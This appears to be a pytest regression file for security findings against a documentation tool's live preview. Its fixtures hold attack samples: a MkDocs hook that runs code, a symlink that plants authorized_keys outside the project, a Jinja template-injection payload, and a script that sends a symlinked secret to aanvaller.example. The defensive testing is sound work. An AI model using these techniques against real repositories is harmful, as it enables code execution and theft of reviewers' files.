"""The thirteenth attack (issue 24, December 2026): `kennisbank serve` under both engines with
hostile branches switched while the preview runs. Each finding is reproduced as a test of
what should happen, marked xfail(strict=True) with the finding's id until it is fixed (then
the mark goes and the test guards the fix); what held and is cheap to keep is a plain guard.

Every case runs the real CLI in a subprocess on a fresh project made by `kennisbank init` in
a temporary folder, with a time limit, and the real engine; the pull request is a real git
branch, brought in with git (`checkout`, `pull`)."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest

from server_support import free_port

# The CLI runner and the freshly initialised project of the fourth round.
from test_attack_round4 import _cli, project  # noqa: F401, F811 (a fixture)
from test_attack_round10 import VOCABULARY, _vocabulary
from test_hostile_git import run_git

# Every case starts `kennisbank serve` (conftest: the `server` mark) and takes over 5 s.
pytestmark = [pytest.mark.server, pytest.mark.slow]

FILLER = 300 * 1024 * 1024
HOOK = "import pathlib\npathlib.Path({marker!r}).touch()\n"


def _serve_until(project: Path, tmp_path: Path, engine: str, ready: tuple[bytes, ...],  # noqa: F811
                 act: Callable[[], None], marker: Path, seconds: float,
                 port: int | None = None) -> str:
    """`kennisbank serve --engine <engine>` on a free loopback port; once it has printed one
    of `ready`, `act()` (the reviewer brings in a branch); then until `marker` appears or
    `seconds` pass. What serve printed."""
    log = tmp_path / "serve.log"
    with log.open("wb") as out:
        process = subprocess.Popen(  # noqa: S603 (our own CLI)
            [sys.executable, "-m", "kennisbank", "serve", "--root", str(project), "--engine",
             engine, "--adres", f"127.0.0.1:{port or free_port()}"], cwd=tmp_path, stdout=out,
            stderr=subprocess.STDOUT, env={**os.environ, "NO_COLOR": "1"},
            start_new_session=True)
        try:
            deadline = time.monotonic() + 90
            while time.monotonic() < deadline and process.poll() is None and \
                    not any(word in log.read_bytes() for word in ready):
                time.sleep(0.2)
            assert process.poll() is None, log.read_text(errors="replace")
            assert any(word in log.read_bytes() for word in ready), \
                log.read_text(errors="replace")
            time.sleep(1)
            act()
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline and not marker.exists():
                time.sleep(0.2)
        finally:
            os.killpg(process.pid, 15)
            try:
                process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, 9)
                process.wait(timeout=20)
    return log.read_text(encoding="utf-8", errors="replace")


def _own_mkdocs(project: Path, tmp_path: Path) -> None:  # noqa: F811
    """The project gets its own mkdocs.yml (the default one), recorded as reviewed."""
    built = _cli("build", "--root", str(project), cwd=tmp_path)
    assert built.returncode == 0, built.stdout + built.stderr
    config = project / "mkdocs.yml"
    config.write_bytes((project / ".kennisbank-mkdocs.yml").read_bytes())
    (project / "gekeurde-code.sha256").write_text(
        f"{hashlib.sha256(config.read_bytes()).hexdigest()}  mkdocs.yml\n", encoding="utf-8")
    assert _cli("check", "--root", str(project), cwd=tmp_path).returncode == 0


WORDS = ("alfa bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike "
         "november oscar papa quebec romeo sierra tango").split()


def _concepts(folder: Path, count: int) -> None:
    """`count` valid concepts that name no other one (any subset of them passes check)."""
    for i in range(count):
        term = f"{WORDS[i % 20]}{WORDS[i // 20 % 20]}{WORDS[i // 400 % 20]}"
        (folder / f"b{i:05d}.yaml").write_text(
            f"voorkeursterm: {term}\ndefinitie: >-\n  Begrip dat in deze bijdrage met nummer "
            f"{i} wordt aangeduid.\nstatus: ontwerp\n", encoding="utf-8")


# -- R13-1 (high): the MkDocs preview approves and loads a configuration that arrived during
# its first check --------------------------------------------------------------------------
# R10-1's fix (fingerprint the configuration files before *and* after a check, approve only
# when nothing but kennisbank's own changed) is in `Preview.regenerate`. But the MkDocs
# preview does not start with a regeneration: `Preview.run` takes what `first_check` returns,
# and then `self.configs = safeyaml.approved(root)` and `MkDocsPreview.run`, whose first act
# is `self.config()`: `load_config` of mkdocs.yml (MkDocs imports every `hooks:` file while
# it validates the configuration) before `build` compares anything. `first_check` compares
# the reviewed code near the start of `check` (`content.load.load`), and when the project
# has errors it waits and checks again on every save (0.05 s after the first event, without
# waiting for quiet). A pull request arranges both on its own: its first version has a
# content error (serve prints "niet gestart" and waits), and the "fix" it pushes next,
# brought in with `git pull` (a fast-forward, files in path order), repairs
# `begrippen/aaa.yaml` (the check starts), adds a few thousand valid concepts (the check
# takes seconds), then `haak.py` and a mkdocs.yml with `hooks: [haak.py]`. The check passes
# what it saw, the new mkdocs.yml is approved unchecked and loaded, and haak.py runs on the
# reviewer's machine, although `check` refuses that same branch (ongekeurde-code).
# Fixed: the MkDocs preview approves only what was the same before and after its first
# check, and MkDocs reads a configuration file only as approved and recorded (the test
# guards the fix).

def test_r13_1_a_configuration_arriving_during_the_first_check_is_not_loaded(
        project: Path, tmp_path: Path) -> None:  # noqa: F811
    marker = tmp_path / "UITGEVOERD"
    _own_mkdocs(project, tmp_path)
    run_git(project, "init", "-q", "-b", "main")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "begin")
    # The attacker's fork: a first version with a content error, then the "fix".
    fork = tmp_path / "fork"
    run_git(tmp_path, "clone", "-q", str(project), str(fork))
    run_git(fork, "checkout", "-q", "-b", "pull-request")
    broken = fork / "begrippen" / "aaa.yaml"
    broken.write_text("voorkeursterm: kapot\nstatus: ontwerp\n", encoding="utf-8")
    # A large vocabulary: read after the reviewed code, on every check (seconds).
    (fork / "vocabulaires").mkdir()
    (fork / "vocabulaires" / "groot.yaml").write_text(VOCABULARY, encoding="utf-8")
    (fork / "vocabulaires" / "groot.ttl").write_text(_vocabulary(20_000), encoding="utf-8")
    run_git(fork, "add", "-A")
    run_git(fork, "commit", "-q", "-m", "een bijdrage")
    run_git(project, "fetch", "-q", str(fork), "pull-request:pull-request")
    run_git(project, "checkout", "-q", "pull-request")
    # The "fix", in git's path order: the repaired concept (the check starts), haak.py, a
    # file of zeros (small in git; writing it takes a moment), then mkdocs.yml.
    broken.write_text("voorkeursterm: heel\ndefinitie: >-\n  Begrip dat weer heel is.\n"
                      "status: ontwerp\n", encoding="utf-8")
    (fork / "haak.py").write_text(HOOK.format(marker=str(marker)), encoding="utf-8")
    with (fork / "l-vulsel.bin").open("wb") as filler:
        filler.truncate(FILLER)
    with (fork / "mkdocs.yml").open("a", encoding="utf-8") as config:
        config.write("hooks:\n- haak.py\n")
    run_git(fork, "add", "-A")
    run_git(fork, "commit", "-q", "-m", "hersteld")
    check = _cli("check", "--root", str(fork), cwd=tmp_path)
    assert check.returncode == 1 and "ongekeurde-code" in check.stdout, check.stdout

    def pull() -> None:
        run_git(project, "pull", "-q", "--ff-only", str(fork), "pull-request")

    said = _serve_until(project, tmp_path, "mkdocs", (b"niet gestart",), pull, marker, 40)
    assert "ongekeurde-code" in _cli("check", "--root", str(project), cwd=tmp_path).stdout
    assert not marker.exists(), f"de pull request voerde code uit (hooks):\n{said[-3000:]}"


# -- R13-2 (high): the Zensical preview writes a pull request's file through a `site` link --
# `zensical serve` builds into the project's `site/` and copies every new or changed static
# file of docs/ there as it sees it, before kennisbank's check (R8-3). Zensical resolved
# site_dir when it read its configuration, at the start; a `site` that became a symbolic link
# since is followed. `git checkout` removes the gitignored, built `site/` folder without a
# word and puts the branch's committed link in its place (git keeps a link a link), so one
# branch switch under `kennisbank serve --engine zensical` writes a file of the pull
# request's choosing (any name without a leading dot) into a folder of its choosing outside
# the project: `site -> ../../.ssh` with `docs/authorized_keys`, `../../.config/autostart`
# with a `.desktop` file, a user site-packages folder with a `.pth`. `check` refuses the link
# (`onleesbaar-bestand`), but Zensical wrote before any check ran.
# Fixed: the Zensical preview builds into a folder of its own inside the project, with a
# random name no branch can know (`site.mirror`); the project's `site` is never written.

def _link_branch(project: Path, outside: Path) -> None:  # noqa: F811
    """The project as a git repository on main, and a branch `pull-request` whose `site` is
    a relative link to `outside` and whose docs/ holds `authorized_keys`."""
    run_git(project, "init", "-q", "-b", "main")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "begin")
    run_git(project, "checkout", "-q", "-b", "pull-request")
    outside.mkdir()
    (project / "docs").mkdir(exist_ok=True)
    (project / "docs" / "authorized_keys").write_text("ssh-ed25519 AAAA aanvaller\n",
                                                      encoding="utf-8")
    (project / "site").symlink_to(os.path.relpath(outside, project))
    run_git(project, "add", "-f", "docs/authorized_keys", "site")
    run_git(project, "commit", "-q", "-m", "een bijdrage")
    run_git(project, "checkout", "-q", "main")
    assert not (project / "site").exists()


def test_r13_2_a_site_link_arriving_in_the_zensical_preview_is_not_written_through(
        project: Path, tmp_path: Path) -> None:  # noqa: F811
    outside = tmp_path / "buiten"
    _link_branch(project, outside)
    written = outside / "authorized_keys"

    def switch() -> None:
        # Before the fix the preview built into site/ (git replaced the built folder); now
        # it builds in a folder of its own and the project has none, so git puts the link.
        assert not (project / "site").is_symlink()
        run_git(project, "checkout", "-q", "pull-request")
        assert (project / "site").is_symlink()

    said = _serve_until(project, tmp_path, "zensical", (b"No issues found",), switch,
                        written, 20)
    check = _cli("check", "--root", str(project), cwd=tmp_path)
    assert "onleesbaar-bestand" in check.stdout, check.stdout
    assert not written.exists(), f"buiten het project geschreven:\n{said[-2000:]}"


# -- R13-3 (high): a template arriving during a MkDocs preview build is rendered --------------
# The MkDocs preview compares the reviewed code (`unreviewed_code`: overrides/, the
# configurations) once, after regenerating and before `mkdocs_build`. MkDocs then reads and
# converts every page's Markdown (`_populate_page`, seconds in a full build of a real
# project) and only after that asks Jinja for the first template (404.html, then main.html
# and its partials, from overrides/ first); a new Jinja environment per build, so whatever
# overrides/ holds by then is read and rendered, outside a sandbox. A pull request that
# removes one concept (a page goes: a full build) and changes `overrides/404.html` behind a
# filler (git writes in path order; R13-1) gets its template rendered, running a command on
# the reviewer's machine, although `check` refuses that branch (ongekeurde-code). To be
# independent of this machine's speed the test brings in the two halves itself: the
# removal, and once serve printed that it regenerated, the template (a second checkout).

TEMPLATE_404 = '{% extends "main.html" %}\n{% block content %}<h1>Niet gevonden</h1>' \
    '{% endblock %}\n'


def test_r13_3_a_template_arriving_during_a_mkdocs_build_is_not_rendered(
        project: Path, tmp_path: Path) -> None:  # noqa: F811
    marker = tmp_path / "UITGEVOERD"
    _concepts(project / "begrippen", 800)
    (project / "overrides").mkdir()
    template = project / "overrides" / "404.html"
    template.write_text(TEMPLATE_404, encoding="utf-8")
    (project / "gekeurde-code.sha256").write_text(
        f"{hashlib.sha256(template.read_bytes()).hexdigest()}  overrides/404.html\n",
        encoding="utf-8")
    assert _cli("check", "--root", str(project), cwd=tmp_path).returncode == 0
    run_git(project, "init", "-q", "-b", "main")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "begin")
    run_git(project, "checkout", "-q", "-b", "pull-request")
    run_git(project, "rm", "-q", "begrippen/b00799.yaml")
    run_git(project, "commit", "-q", "-m", "een begrip minder")
    template.write_text(TEMPLATE_404.replace(
        "<h1>", f"{{{{ lipsum.__globals__.os.open({str(marker)!r}, 64) }}}}<h1>"),
        encoding="utf-8")
    run_git(project, "commit", "-q", "-am", "een sjabloon")
    check = _cli("check", "--root", str(project), cwd=tmp_path)
    assert check.returncode == 1 and "ongekeurde-code" in check.stdout, check.stdout
    run_git(project, "checkout", "-q", "main")
    log = tmp_path / "serve.log"

    def switch() -> None:
        regenerated = log.read_bytes().count(b"bijgewerkt in")
        run_git(project, "checkout", "-q", "pull-request~1")
        deadline = time.monotonic() + 60
        while log.read_bytes().count(b"bijgewerkt in") == regenerated and \
                time.monotonic() < deadline:
            time.sleep(0.02)
        time.sleep(0.3)  # unreviewed_code has run; MkDocs reads the pages
        run_git(project, "checkout", "-q", "pull-request")

    said = _serve_until(project, tmp_path, "mkdocs", (b"Documentation built",), switch,
                        marker, 60)
    assert "ongekeurde-code" in _cli("check", "--root", str(project), cwd=tmp_path).stdout
    assert not marker.exists(), f"de pull request voerde code uit (404.html):\n{said[-3000:]}"


# -- R13-4 (high): the Zensical preview serves a file outside the project to a script of the
# pull request -----------------------------------------------------------------------------
# Zensical copies a static file of docs/ into the site as it sees it, following a symbolic
# link (R4-1 made `check` and `build` refuse links in docs/, but the preview runs no check
# before Zensical copies; R8-3). Its pages carry `script-src 'self'`, so a script the pull
# request adds to docs/ runs, reads the copied file (`connect-src 'self'`) and sends it away
# by navigating (`location = "https://…/?" + text`; the CSP cannot stop a navigation). Zensical's
# live reload opens the changed page again in the reviewer's browser by itself. So one branch
# switch under `kennisbank serve --engine zensical` with the preview open hands the pull
# request any file the reviewer can read (`docs/sleutel.txt -> ../../.ssh/id_ed25519`). The
# test stops at the first half: the file's bytes served on the preview's address.
# Fixed: Zensical reads a mirror of docs/ that kennisbank writes after a passed check, only
# regular files (no link followed) whose bytes give the text check read (`site.mirror`).

def test_r13_4_a_docs_link_arriving_in_the_zensical_preview_is_not_served(
        project: Path, tmp_path: Path) -> None:  # noqa: F811
    secret = tmp_path / "geheim"
    secret.write_text("GEHEIM-1f0c\n", encoding="utf-8")
    docs = project / "docs"
    docs.mkdir(exist_ok=True)
    (docs / "welkom.md").write_text("# Welkom\n", encoding="utf-8")
    run_git(project, "init", "-q", "-b", "main")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "begin")
    run_git(project, "checkout", "-q", "-b", "pull-request")
    (docs / "sleutel.txt").symlink_to(os.path.relpath(secret, docs))
    (docs / "lek.js").write_text(
        'fetch("/sleutel.txt").then(r => r.text()).then(t => {\n'
        '  location = "https://aanvaller.example/?" + encodeURIComponent(t) })\n',
        encoding="utf-8")
    (docs / "welkom.md").write_text('# Welkom\n\n<script src="../lek.js"></script>\n',
                                    encoding="utf-8")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "een bijdrage")
    assert _cli("check", "--root", str(project), cwd=tmp_path).returncode == 1
    run_git(project, "checkout", "-q", "main")
    port = free_port()
    served: list[bytes] = []
    leaked = tmp_path / "GELEKT"

    def switch() -> None:
        run_git(project, "checkout", "-q", "pull-request")
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not served:
            try:
                with urllib.request.urlopen(  # noqa: S310 (our own loopback preview)
                        f"http://127.0.0.1:{port}/sleutel.txt", timeout=5) as answer:
                    served.append(answer.read())
            except OSError:
                time.sleep(0.3)
        if served and b"GEHEIM-1f0c" in served[0]:
            leaked.touch()

    said = _serve_until(project, tmp_path, "zensical", (b"No issues found",), switch,
                        leaked, 1, port=port)
    assert not leaked.exists(), f"een bestand buiten het project geserveerd:\n{said[-2000:]}"


# -- What held (guards) ---------------------------------------------------------------------

@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_terminal_escapes_in_a_page_arriving_in_the_preview_are_not_printed(
        project: Path, tmp_path: Path, engine: str) -> None:  # noqa: F811
    """A page arriving while serve runs, with escape sequences in its name and its links
    (a title, a clear screen, a bell): neither our check nor the engine prints them raw."""
    docs = project / "docs"
    docs.mkdir(exist_ok=True)
    (docs / "welkom.md").write_text("# Welkom\n", encoding="utf-8")

    def arrive() -> None:
        (docs / "r\x1b[31mood.md").write_text(
            "# Rood\n\n[a](nergens\x1b]0;TITEL\x07.md) ![b](weg\x1b[2J.png)\n\n"
            '<a href="x\x1b[1m.md">c</a>\n', encoding="utf-8")
        (docs / "welkom.md").write_text("# Welkom\n\n[d](niet\x1b]52;c;QUFB\x07hier.md)\n",
                                        encoding="utf-8")

    ready = (b"No issues found",) if engine == "zensical" else (b"Documentation built",)
    said = _serve_until(project, tmp_path, engine, ready, arrive, tmp_path / "nooit", 12)
    assert "welkom" in said or "ood" in said, said[-2000:]  # the arrival was seen
    assert "\x1b" not in said and "\x07" not in said, repr(said[-2000:])


def test_a_concept_replaced_with_the_same_size_and_time_is_checked_again(
        project: Path, tmp_path: Path) -> None:  # noqa: F811
    """The parse cache compares bytes, not size and time: a concept replaced by one of the
    same length with the same modification time, now without its definition, is refused."""
    concept = project / "begrippen" / "voorbeeldbegrip.yaml"
    before = concept.read_text(encoding="utf-8")
    assert "definitie:" in before
    after = before.replace("definitie:", "definitiX:")
    assert len(after) == len(before)
    stat = concept.stat()

    def replace() -> None:
        concept.write_text(after, encoding="utf-8")
        os.utime(concept, ns=(stat.st_atime_ns, stat.st_mtime_ns))

    said = _serve_until(project, tmp_path, "mkdocs", (b"Documentation built",), replace,
                        tmp_path / "nooit", 8)
    assert "niet bijgewerkt" in said and "voorbeeldbegrip.yaml" in said.split(
        "Documentation built", 1)[1], said[-2000:]
